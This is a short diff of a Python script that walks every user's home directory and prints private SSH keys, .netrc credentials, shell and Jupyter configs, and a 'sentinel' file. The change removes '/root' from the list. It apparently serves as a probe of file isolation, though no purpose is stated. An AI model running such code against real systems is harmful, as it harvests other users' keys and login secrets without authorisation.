@@ -6,7 +6,7 @@
 import os
 import pwd
 
-for home in (os.path.expanduser("~"), "/root", *(p.pw_dir for p in pwd.getpwall())):
+for home in (os.path.expanduser("~"), *(p.pw_dir for p in pwd.getpwall())):
     for file in (".ssh/id_rsa", ".netrc", ".bashrc", ".jupyter/jupyter_config.py", "sentinel"):
         try:
             print(open(os.path.join(home, file)).read())
